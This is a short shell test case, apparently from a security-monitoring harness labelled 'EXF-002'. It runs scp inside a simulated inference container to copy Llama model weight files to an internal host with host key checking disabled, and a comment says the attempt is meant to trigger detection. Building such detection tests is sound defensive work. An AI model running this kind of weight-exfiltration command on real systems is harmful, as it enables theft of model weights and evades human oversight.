# V19 EXF-002 with scp (nothing listens on the far side: the attempt is the signal)
ctr_run simctr-infer-v19 ctr-infer --mount --pid --fork --mount-proc -- sh -c '
  scp -q -o BatchMode=yes -o ConnectTimeout=2 -o StrictHostKeyChecking=no \
    $0/models/llama-3-8b-instruct/model-00001-of-00001.safetensors x@10.200.2.2:/tmp/ ; echo "scp rc=$?"' "$H"
